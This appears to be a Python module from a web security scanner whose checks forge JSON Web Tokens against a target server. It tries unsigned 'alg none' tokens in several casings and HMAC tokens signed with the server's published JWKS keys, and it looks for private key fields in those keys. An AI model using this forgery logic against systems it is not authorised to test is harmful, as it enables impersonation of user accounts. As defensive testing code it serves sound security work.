"""Signed tokens that nobody signed."""

import hmac
import json
from typing import Final

from ostiary.attack.scene import Person, Scene
from ostiary.attack.verdict import Check, Skipped
from ostiary.crypto import base64url
from ostiary.domain.errors import JsonValue

_ROUTES: Final = ("/get-session", "/me")
"""Routes that may take a bearer token."""


def _segment(value: JsonValue) -> str:
    return base64url.encode(json.dumps(value).encode()).decode()


async def _claims(scene: Scene, person: Person) -> dict[str, JsonValue]:
    """Return claims that speak for an account, taken from a real token where the server gives one."""
    answer = await scene.target.send("GET", "/token", headers=[person.cookie])
    given = answer.json()
    token = given.get("token") if isinstance(given, dict) else None
    if isinstance(token, str) and token.count(".") == 2:
        claims: JsonValue = json.loads(base64url.decode(token.split(".")[1]))
        return dict(claims)
    session = await scene.session(person.cookie)
    if not isinstance(session, dict) or not session.get("user"):
        raise Skipped("get-session does not show the user")
    now = int(scene.runtime.now().timestamp())
    names = {"iss": scene.target.origin, "aud": scene.target.origin, "iat": now, "exp": now + 600}
    return {"sub": session["user"].get("id"), "email": person.email, **names}


async def _accepted(scene: Scene, person: Person, token: str) -> str | None:
    """Return the route that takes a token for the account."""
    for path in _ROUTES:
        answer = await scene.target.send(
            "GET", path, headers=[("authorization", f"Bearer {token}")], origin=None
        )
        if answer.status == 200 and person.email in answer.text:
            return path
    return None


async def unsigned(scene: Scene) -> list[str]:
    """Say in a token that it is not signed, in every casing."""
    person = await scene.person()
    claims = _segment(await _claims(scene, person))
    faults = []
    for algorithm in ("none", "None", "nOnE"):
        for end in (".", ".AAAA"):
            token = f"{_segment({'alg': algorithm, 'typ': 'JWT'})}.{claims}{end}"
            if path := await _accepted(scene, person, token):
                faults.append(f"{path} accepts a token with alg {algorithm}")
    return sorted(set(faults))


async def _keys(scene: Scene) -> list[dict[str, JsonValue]]:
    answer = await scene.target.send("GET", "/jwks", origin=None)
    known = answer.json()
    keys = known.get("keys") if isinstance(known, dict) else None
    if answer.status != 200 or not isinstance(keys, list) or not keys:
        raise Skipped("the server publishes no keys at /jwks")
    return [key for key in keys if isinstance(key, dict)]


async def public_keys_as_secrets(scene: Scene) -> list[str]:
    """Sign with what everybody knows: the published keys, in their encodings."""
    person = await scene.person()
    keys = await _keys(scene)
    claims = _segment(await _claims(scene, person))
    faults = []
    for key in keys[:3]:
        encodings = [
            json.dumps(key),
            json.dumps(key, separators=(",", ":")),
            str(key.get("x") or key.get("n")),
        ]
        for secret in encodings:
            message = f"{_segment({'alg': 'HS256', 'kid': key.get('kid')})}.{claims}"
            signature = base64url.encode(hmac.digest(secret.encode(), message.encode(), "sha256")).decode()
            if path := await _accepted(scene, person, f"{message}.{signature}"):
                faults.append(f"{path} takes a published key for a secret")
    return sorted(set(faults))


async def private_parts(scene: Scene) -> list[str]:
    """Look for what belongs to nobody else in the published keys."""
    secret = {"d", "p", "q", "dp", "dq", "qi", "k", "privateKey", "private_key"}
    return [
        f"a published key has its private part: {name}"
        for key in await _keys(scene)
        for name in secret & set(key)
    ]


CHECKS: Final = (
    Check(1, ("9.1.2",), "no token without a signature", unsigned),
    Check(2, ("9.1.2",), "no published key taken for a secret", public_keys_as_secrets),
    Check(15, (), "published keys are public parts", private_parts),
)
